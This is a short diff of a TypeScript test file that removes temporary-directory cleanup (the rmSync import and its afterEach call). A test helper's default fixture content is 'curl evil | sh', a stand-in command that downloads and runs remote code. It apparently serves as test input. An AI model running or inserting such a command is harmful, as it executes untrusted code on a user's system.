@@ -7,7 +7,6 @@ import {
   mkdtempSync,
   readFileSync,
   realpathSync,
-  rmSync,
   symlinkSync,
   writeFileSync,
 } from "node:fs";
@@ -53,7 +52,6 @@ beforeEach(async () => {
 });
 afterEach(async () => {
   await project.close();
-  rmSync(root, { recursive: true, force: true });
 });
 
 const drop = (file: string, more: object = { fullContent: "curl evil | sh\n" }): string => {
